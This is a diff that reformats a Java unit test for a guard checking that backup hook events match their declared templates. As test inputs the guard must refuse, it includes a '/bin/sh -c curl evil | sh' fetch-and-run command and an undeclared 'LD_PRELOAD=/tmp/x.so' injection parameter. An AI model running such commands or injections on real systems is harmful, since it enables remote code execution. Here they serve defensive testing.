@@ -43,54 +43,66 @@ class TemplateGuardTest {
                   command: ["pg_dump", "--dbname", "{{ .Params.DB }}", "--namespace={{ .Namespace }}"]
               executor: {type: Operator}
             """);
-    private static final Map<String, String> PROD = Map.of("tier", "production",
-            "kubernetes.io/metadata.name", "prod");
+    private static final Map<String, String> PROD = Map.of("tier", "production", "kubernetes.io/metadata.name", "prod");
 
     @Test
     void anEventRenderedFromItsTemplateForAnAllowedNamespacePasses() {
-        assertThat(TemplateGuard.problem(event("prod", Map.of("DB", "orders"), rendered("prod", "orders"),
-                operator()), found(DUMP, PROD))).isNull();
+        assertThat(TemplateGuard.problem(
+                        event("prod", Map.of("DB", "orders"), rendered("prod", "orders"), operator()),
+                        found(DUMP, PROD)))
+                .isNull();
     }
 
     @Test
     void anInvokerNamespaceTheUsagePolicyDoesNotAllowIsRefused() {
-        String problem = TemplateGuard.problem(event("dev", Map.of("DB", "orders"), rendered("dev", "orders"),
-                operator()), found(DUMP, Map.of("tier", "dev", "kubernetes.io/metadata.name", "dev")));
+        String problem = TemplateGuard.problem(
+                event("dev", Map.of("DB", "orders"), rendered("dev", "orders"), operator()),
+                found(DUMP, Map.of("tier", "dev", "kubernetes.io/metadata.name", "dev")));
 
         assertThat(problem).contains("demo/dump", "namespace 'dev'", "does not match");
     }
 
     @Test
     void anActionTheTemplateDoesNotRenderIsRefusedEvenWithAllowedNamespaceAndParams() {
-        HookAction widened = new HookAction(new ExecAction(List.of("/bin/sh", "-c", "curl evil | sh")), null, null,
-                null, null);
+        HookAction widened =
+                new HookAction(new ExecAction(List.of("/bin/sh", "-c", "curl evil | sh")), null, null, null, null);
 
-        String problem = TemplateGuard.problem(event("prod", Map.of("DB", "orders"), widened, operator()),
-                found(DUMP, PROD));
+        String problem =
+                TemplateGuard.problem(event("prod", Map.of("DB", "orders"), widened, operator()), found(DUMP, PROD));
 
         assertThat(problem).contains("action is not what HookTemplate demo/dump renders");
     }
 
     @Test
     void aParamValueChangedAfterRenderingIsRefusedAsAnActionMismatch() {
-        String problem = TemplateGuard.problem(event("prod", Map.of("DB", "customers"), rendered("prod", "orders"),
-                operator()), found(DUMP, PROD));
+        String problem = TemplateGuard.problem(
+                event("prod", Map.of("DB", "customers"), rendered("prod", "orders"), operator()), found(DUMP, PROD));
 
         assertThat(problem).contains("action is not what").doesNotContain("customers");
     }
 
     @Test
     void undeclaredParamsAreRefusedByName() {
-        String problem = TemplateGuard.problem(event("prod", Map.of("DB", "orders", "LD_PRELOAD", "/tmp/x.so"),
-                rendered("prod", "orders"), operator()), found(DUMP, PROD));
+        String problem = TemplateGuard.problem(
+                event(
+                        "prod",
+                        Map.of("DB", "orders", "LD_PRELOAD", "/tmp/x.so"),
+                        rendered("prod", "orders"),
+                        operator()),
+                found(DUMP, PROD));
 
         assertThat(problem).contains("[LD_PRELOAD]", "does not declare").doesNotContain("/tmp/x.so");
     }
 
     @Test
     void anotherExecutorThanTheTemplatesIsRefused() {
-        String problem = TemplateGuard.problem(event("prod", Map.of("DB", "orders"), rendered("prod", "orders"),
-                new HookExecutor(ExecutorType.Pod, null, null)), found(DUMP, PROD));
+        String problem = TemplateGuard.problem(
+                event(
+                        "prod",
+                        Map.of("DB", "orders"),
+                        rendered("prod", "orders"),
+                        new HookExecutor(ExecutorType.Pod, null, null)),
+                found(DUMP, PROD));
 
         assertThat(problem).contains("executor is not the one HookTemplate demo/dump defines");
     }
@@ -120,14 +132,36 @@ class TemplateGuardTest {
     }
 
     private static SessionSummary session(String namespace) {
-        return new SessionSummary("s-1", namespace, new ObjectReference("core.kubestash.com", "BackupConfiguration",
-                namespace, "pg"), null, null);
+        return new SessionSummary(
+                "s-1",
+                namespace,
+                new ObjectReference("core.kubestash.com", "BackupConfiguration", namespace, "pg"),
+                null,
+                null);
     }
 
-    private static HookEvent event(String namespace, Map<String, String> params, HookAction action,
-                                   HookExecutor executor) {
-        return new HookEvent("r/0", "r", Phase.PRE_BACKUP, 0, 1, "dump", new TemplateRef("dump", "demo"),
-                session(namespace), executor, action, params, 0, "30s", Instant.now(), null, null, null, null, null);
+    private static HookEvent event(
+            String namespace, Map<String, String> params, HookAction action, HookExecutor executor) {
+        return new HookEvent(
+                "r/0",
+                "r",
+                Phase.PRE_BACKUP,
+                0,
+                1,
+                "dump",
+                new TemplateRef("dump", "demo"),
+                session(namespace),
+                executor,
+                action,
+                params,
+                0,
+                "30s",
+                Instant.now(),
+                null,
+                null,
+                null,
+                null,
+                null);
     }
 
     private static HookTemplate template(String yaml) {
